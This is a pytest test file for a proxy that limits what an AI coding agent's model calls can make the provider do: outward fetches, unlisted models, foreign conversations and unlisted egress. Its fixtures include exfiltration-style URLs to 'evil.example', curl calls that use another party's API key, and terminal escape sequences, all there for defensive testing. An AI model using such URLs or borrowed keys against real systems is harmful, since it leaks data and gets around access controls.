"""What a call of the model may make the provider do: read as the provider reads it, and refused by name before it is
paid."""

import asyncio
import http.client
import json
import time
import uuid
from collections.abc import Iterator, Sequence
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from claude_workflow.local.model import ScriptedModel
from lambdas.agent.bedrock import bedrock
from lambdas.agent.claude import Turn, converse
from lambdas.agent.credential import Secret
from lambdas.agent.messages import Call
from lambdas.agent.proxy import Proxy
from lambdas.agent.reach import ANYTHING, Reach
from lambdas.agent.refusals import OTHERS, Refusals
from lambdas.agent.scratch import Scratch
from lambdas.agent.transfer import Transfer
from lambdas.agent.tunnel import Tunnels
from lambdas.agent.upstream import anthropic
from lambdas.egress import Egress
from lambdas.errors import ModelRejected
from lambdas.receipt import REFUSAL_CHARS, REFUSALS, Receipt
from lambdas.run_claude import RunClaude, _upstreams
from tests.support.granted import BucketHandler, GrantedBucket, a_task
from tests.support.http_servers import Answering, listening
from tests.support.kept_checkpoints import Kept
from tests.support.running import settings_of
from tests.support.tls_servers import authority, listening_securely

SONNET, HAIKU = "claude-sonnet-5-5", "claude-haiku-4-5"
OURS = "4d1ab31c-8b7c-4d4c-9c1c-0f4f2f5a6b7c"
CLOSED = Reach(outward=False, searches=False, models=(SONNET, HAIKU), conversation=OURS)
SEARCH = {"type": "web_search_20250305", "name": "web_search", "max_uses": 8}


def said(*content: Any) -> list[Any]:
    """Messages with these blocks in one of the user's."""
    return [{"role": "user", "content": list(content)}]


def image(**source: str) -> dict[str, Any]:
    return {"type": "image", "source": source}


URL = image(type="url", url="https://evil.example/?secret")
FILE = {"type": "document", "source": {"type": "file", "file_id": "file_1"}}
RESULT = {"type": "tool_result", "tool_use_id": "t"}

FETCH = {"type": "web_fetch_20250910", "name": "web_fetch"}
ADDED = {"type": "tool_addition"}

OUTWARD: list[tuple[dict[str, Any], str]] = [
    ({"mcp_servers": [{"type": "url", "url": "https://evil.example"}]}, "mcp_servers"),
    ({"mcp_servers": []}, "mcp_servers"),
    ({"container": "container_1"}, "container"),
    ({"container": {"skills": []}}, "container"),
    ({"messages": said(URL)}, "a source of the type url"),
    ({"messages": said(FILE)}, "a source of the type file"),
    ({"messages": said(RESULT | {"content": [URL]})}, "a source of the type url"),
    ({"messages": said(RESULT | {"content": [{"type": "document", "source": {"type": "content", "content": [FILE]}}]})},
     "a source of the type file"),
    ({"messages": said({"type": "unheard_of", "deeper": {"still": [URL]}})}, "a source of the type url"),
    ({"messages": said({"type": "container_upload", "file_id": "file_1"})}, "a file of the provider's"),
    ({"system": [{"type": "text", "text": "x"}, URL]}, "a source of the type url"),
    ({"tools": [FETCH]}, "the tool web_fetch_20250910"),
    ({"tools": [FETCH | {"input_schema": {}}]}, "the tool web_fetch_20250910"),
    ({"tools": [{"type": "code_execution_20250825", "name": "x"}]}, "the tool code_execution_20250825"),
    ({"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]}, "the tool mcp_toolset"),
    ({"tools": [{"type": "web_search_20260209", "name": "web_search"}]}, "the tool web_search_20260209"),
    ({"tools": [{"type": "custom\n", "name": "x"}]}, "the tool custom"),
    ({"tools": [{"type": ["custom"], "name": "x"}]}, "the tool ['custom']"),
    ({"messages": said(ADDED | {"tool": {"type": "tool_definition", "definition": FETCH}})},
     "the tool web_fetch_20250910"),
    ({"messages": said(ADDED | {"tool": {"type": "mcp_toolset"}})}, "the tool mcp_toolset"),
    ({"tools": [SEARCH]}, "no WebSearch"),
]  # fmt: skip

INWARD: list[dict[str, Any]] = [
    {"messages": "hello"},
    {"messages": said({"type": "text", "text": json.dumps(URL)}, image(type="base64", data=""))},
    {"messages": [{"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "x", "input": URL}]}]},
    {"messages": said(RESULT | {"content": "https://evil.example"})},
    {"messages": said({"type": "web_search_tool_result", "content": [{"type": "web_search_result", "url": "a"}]})},
    {"tools": [{"name": "x", "input_schema": {"properties": {"type": {"const": "url"}, "source": URL}}}]},
    {"tools": [{"type": "custom", "name": "x"}, {"type": None, "name": "y"}, {"type": "bash_20250124", "name": "z"}]},
    {"messages": said(ADDED | {"tool": {"type": "tool_definition", "definition": {"name": "x", "input_schema": URL}}})},
    {"tools": [{"type": "tool_search_tool_regex_20251119", "name": "x"}], "metadata": {"user_id": "x"}},
]  # fmt: skip


def call(asked: dict[str, Any], model: str = SONNET, conversation: str | None = OURS) -> Call:
    """As Claude Code would send it."""
    headers = {"x-claude-code-session-id": conversation} if conversation else {}
    return Call.of(json.dumps({"model": model, "max_tokens": 10, **asked}).encode(), headers)


@pytest.mark.parametrize(("asked", "named"), OUTWARD)
def test_what_makes_the_provider_reach_out_is_refused_by_name(asked: dict[str, Any], named: str) -> None:
    """Wherever in a call it stands; an open deployment lets it pass, unbounded as its cost is."""
    assert named in str(CLOSED.refusal(call(asked)))
    assert replace(CLOSED, outward=True).refusal(call(asked)) is None
    assert not call(asked).bounded


@pytest.mark.parametrize("asked", INWARD)
def test_what_stays_in_a_call_passes(asked: dict[str, Any]) -> None:
    """What only looks so is data: a tool's input, a schema, a text."""
    assert CLOSED.refusal(call(asked)) is None
    assert call(asked).bounded


def test_a_search_passes_where_the_run_has_the_tool() -> None:
    """The one that Claude Code has; beside another tool of the provider's it does not."""
    searching = replace(CLOSED, searches=True)
    assert searching.refusal(call({"tools": [SEARCH]})) is None
    assert "web_fetch" in str(searching.refusal(call({"tools": [SEARCH, FETCH]})))


@pytest.mark.parametrize(
    ("model", "passes"),
    [
        *((SONNET, True), (HAIKU, True), (f"{HAIKU}-20251001", True)),
        *(("claude-opus-5-5", False), ("claude-sonnet-5", False), (f"{SONNET}-2025100", False), ("", False)),
    ],
)
def test_only_the_deployments_models_are_asked(model: str, passes: bool) -> None:
    """By their names, with or without a date; with `egress: "open"` no others either."""
    for reach in (CLOSED, replace(CLOSED, outward=True)):
        said = reach.refusal(call({}, model))
        assert (
            said is None if passes else f"the model {model} is not in this deployment's models: {SONNET}" in str(said)
        )
        for fallbacks in ([{"model": model}], [{"model": SONNET}, {"model": model}], model):
            assert (reach.refusal(call({"fallbacks": fallbacks})) is None) == passes
    assert ANYTHING.refusal(call({}, model)) is None


@pytest.mark.parametrize("conversation", [None, "", "6d3f1c52-8a47-4c0e-9b7d-2f5e8a1c4b90", OURS.upper()])
def test_a_call_of_no_conversation_or_another_is_refused(conversation: str | None) -> None:
    """Of Claude Code's own, all name the run's."""
    assert "none of it" in str(CLOSED.refusal(call({}, conversation=conversation)))


class Provider(Answering):
    """Answers anything, and counts."""

    seen: list[str]

    def do_POST(self) -> None:
        self.received()
        self.seen.append(self.path)
        self.answer(200, b'{"input_tokens": 1}', {"content-type": "application/json"})


@pytest.fixture(scope="module")
def provider() -> Iterator[tuple[str, list[str]]]:
    seen = list[str]()
    with listening(Provider, seen=seen) as url:
        yield url, seen


def posted(proxy: Proxy, path: str, asked: dict[str, Any], **headers: str) -> tuple[int, Any]:
    """What the agent's code gets for it."""
    known = {"x-api-key": proxy.token, "x-claude-code-session-id": OURS, **headers}
    with closing(http.client.HTTPConnection("127.0.0.1", proxy.port, timeout=30)) as client:
        client.request("POST", path, json.dumps(asked), known)
        response = client.getresponse()
        return response.status, json.loads(response.read())


@pytest.mark.parametrize(
    "path", ["/model/v1/messages", "/model/v1/messages?beta=true", "/model/v1/messages/count_tokens"]
)
def test_what_is_refused_reaches_no_provider(path: str, provider: tuple[str, list[str]]) -> None:
    """It is a 403 as Claude Code shows one, costs nothing, and is in the record; counting tokens is read as well."""
    url, seen = provider
    seen.clear()
    asked = {"model": SONNET, "max_tokens": 10, "messages": said(URL)}
    with Proxy([anthropic(Secret(lambda: "key"), url)], reach=CLOSED) as proxy:
        status, body = posted(proxy, path, asked)
        why = "the model's provider would reach out for this: a source of the type url"
        assert (status, body) == (403, {"type": "error", "error": {"type": "proxy_error", "message": why}})
        receipt = Receipt.load(json.loads(json.dumps(proxy.meter.receipt().dump())))
        assert [(each.what, each.why) for each in receipt.refused] == [(f"POST {path.partition('?')[0]}", why)]
        assert (seen, receipt.calls) == ([], ())
        assert proxy.witness.failed
        assert posted(proxy, path, asked | {"messages": []})[0] == 200
        assert len(seen) == 1


@pytest.mark.parametrize(
    "path", ["/v1/files", "/v1/messages/batches", "/v1/skills", "/v1/organizations", "/v1/complete"]
)
def test_no_other_door_of_the_provider_is_there(path: str, provider: tuple[str, list[str]]) -> None:
    """Files, batches and the like, open or not."""
    with Proxy([anthropic(Secret(lambda: "key"), provider[0])]) as proxy:
        assert posted(proxy, f"/model{path}", {})[0] == 403
        assert [each.what for each in proxy.meter.receipt().refused] == [f"POST /model{path}"]


def test_a_program_with_nothing_but_the_token_has_no_model(provider: tuple[str, list[str]]) -> None:
    """And makes no call of the conversation's fail by that."""
    url, seen = provider
    seen.clear()
    with Proxy([anthropic(Secret(lambda: "key"), url)], reach=CLOSED) as proxy:
        asked = {"model": SONNET, "max_tokens": 10, "messages": []}
        status, body = posted(proxy, "/model/v1/messages", asked, **{"x-claude-code-session-id": "mine"})
        assert (status, "none of it" in body["error"]["message"]) == (403, True)
        assert not proxy.witness.failed
    assert seen == []


def test_bedrock_is_read_alike(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its model is in the path, and nobody is asked to sign for what is refused."""
    monkeypatch.setenv("AWS_REGION", "eu-west-1")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
    upstream = replace(bedrock(f"anthropic.{SONNET}"), needed=False)
    with Proxy([upstream], reach=replace(CLOSED, models=(f"anthropic.{SONNET}",))) as proxy:
        for model, asked in ((SONNET, {"messages": said(URL)}), (HAIKU, {"messages": []})):
            path = f"/model/model/anthropic.{model}/invoke-with-response-stream"
            assert posted(proxy, path, {"max_tokens": 1, **asked})[0] == 403
        whys = [each.why for each in proxy.meter.receipt().refused]
    assert ("source of the type url" in whys[0], f"anthropic.{HAIKU} is not" in whys[1]) == (True, True)


def test_what_was_refused_is_kept_in_bounds() -> None:
    """So many kinds, so much of each, and nothing that a terminal obeys; further kinds are counted together."""
    refusals = Refusals()
    assert refusals.note("GET /\x1b[2J\u202e" + "x" * 1000, "why\n")
    assert not refusals.note("GET /\x1b[2J\u202e" + "x" * 1000, "why\n")
    assert [refusals.note(f"GET /{number}", "why") for number in range(100)].count(True) == REFUSALS - 1
    rows = refusals.rows
    assert (len(rows), rows[0].times, rows[-1].times) == (REFUSALS, 2, 100 - (REFUSALS - 2))
    assert (rows[0].what[:10], len(rows[0].what), rows[0].why) == ("GET /?[2J?", REFUSAL_CHARS, "why?")
    assert (rows[-1].what, rows[-1].why) == OTHERS


class Site(Answering):
    """A page on the web."""

    def do_GET(self) -> None:
        self.answer(200, b"<p>the page</p>", {"content-type": "text/html"})


def resolve(_: str) -> Sequence[str]:
    return ["127.0.0.1"]


def test_claude_code_gets_what_is_open_and_its_programs_do_not_get_more(
    model: ScriptedModel, scratch: Scratch, tmp_path: Path
) -> None:
    """In one turn of the real CLI: its own calls, a subagent's, a search's and those for web pages name the run's
    conversation and the deployment's models; a page of a listed host is fetched through the tunnel, another is not; and
    a program of the agent's has neither the model by the token alone, nor the provider by another's key."""
    known = authority(tmp_path, "site.example")
    with listening_securely(Site, known) as port:
        ours, theirs = "$ANTHROPIC_BASE_URL/v1/messages", f"https://api.anthropic.com:{port}/v1/messages"
        lines = [
            'tool Agent {"description": "x", "prompt": "say hi", "subagent_type": "Explore", "model": "opus"}',
            'tool WebSearch {"query": "weather"}',
            f'tool WebFetch {{"url": "https://site.example:{port}/x", "prompt": "what"}}',
            f'tool WebFetch {{"url": "https://other.example:{port}/x", "prompt": "what"}}',
            f'run curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" -d \'{{"model": "{SONNET}"}}\' {ours}',
            f"run curl -sS -H 'x-api-key: sk-ant-of-somebody-else' -d '{{}}' {theirs}",
        ]  # fmt: skip
        turn = Turn("\n".join(lines), claude_session=str(uuid.uuid4()), resume=False)
        upstream = anthropic(Secret(lambda: "key"), model.url, (SONNET, HAIKU))
        trusting = {**upstream.environment, "NODE_EXTRA_CA_CERTS": str(known.trusted)}
        listed = Egress(("site.example",))
        with Proxy(
            [replace(upstream, environment=trusting)],
            reach=Reach(False, True, (SONNET, HAIKU), turn.claude_session),
            tunnels=Tunnels(listed, resolve=resolve, may_reach=lambda _: True, port=port),
        ) as proxy:
            outcome = asyncio.run(converse(turn, scratch, proxy, Kept(scratch), time.time() + 60))
    told = str(outcome.result)
    assert "the page" in told
    assert {request.model for request in model.requests} == {SONNET, HAIKU}
    assert [tool["type"] for request in model.requests for tool in request.body["tools"] if "type" in tool]
    assert any("x-claude-code-agent-id" in request.headers for request in model.requests)
    assert {request.headers["x-claude-code-session-id"] for request in model.requests} == {turn.claude_session}
    assert [(each.what, each.why.partition(":")[0]) for each in outcome.receipt.refused] == [
        (f"CONNECT other.example:{port}", "other.example is not in this deployment's setting egress"),
        (
            "POST /model/v1/messages",
            "the model is there for Claude Code's own conversation, and this call is none of it",
        ),
        (f"CONNECT api.anthropic.com:{port}", "api.anthropic.com is not in this deployment's setting egress"),
    ]


def test_a_deployments_settings_are_those_of_its_runs(model: ScriptedModel, tmp_path: Path) -> None:
    """What the setting names leads the agent's programs, in its environment and its home; its token alone opens no
    model; and what was refused is in the receipt that is staged, here of a run that fails."""
    settings = replace(
        settings_of(model.url, tmp_path),
        egress=Egress(("site.example",)),
        registries={"pip": "http://127.0.0.1:1/simple", "npm": "http://127.0.0.1:1"},
        models=(SONNET,),
    )
    worker = RunClaude(settings, Transfer(), _upstreams(settings, lambda _: "key"))
    lines = (
        "run stat -c %a ~/.npmrc; cat ~/.npmrc; env | grep -c -e ^HTTPS_PROXY -e ^PIP_INDEX_URL; curl -sS https://a.b",
        'run curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" -d \'{"model": "claude-x"}\' $ANTHROPIC_BASE_URL/v1/messages',
        "status 400",
    )
    bucket = GrantedBucket()
    with listening(BucketHandler, bucket=bucket) as bucket.url:
        bucket.objects["/request"] = json.dumps({"body": {"prompt": "\n".join(lines)}}).encode()
        with pytest.raises(ModelRejected):
            worker.run(a_task(bucket, "1", OURS))
    told = model.requests[-1].conversation.results
    assert "\n600\nregistry=http://127.0.0.1:" in told[0]
    assert "\n2\ncurl: (56) CONNECT tunnel failed" in told[0]
    assert "none of it" in told[1]
    assert {request.model for request in model.requests} == {SONNET}
    receipt = Receipt.load(json.loads(bucket.objects["/1/receipt"]))
    assert [each.what for each in receipt.refused] == ["CONNECT a.b:443", "POST /model/v1/messages"]


def test_a_run_whose_model_is_not_the_deployments_says_so(model: ScriptedModel, scratch: Scratch) -> None:
    """Nothing is asked, and the record has the reason."""
    turn = Turn("hello", claude_session=str(uuid.uuid4()), resume=False, model="claude-opus-5-5")
    with Proxy([anthropic(Secret(lambda: "key"), model.url)], reach=Reach(models=(SONNET,))) as proxy:
        with pytest.raises(ModelRejected):
            asyncio.run(converse(turn, scratch, proxy, Kept(scratch), time.time() + 60))
        assert "claude-opus-5-5 is not in" in proxy.meter.receipt().refused[0].why
    assert not model.requests
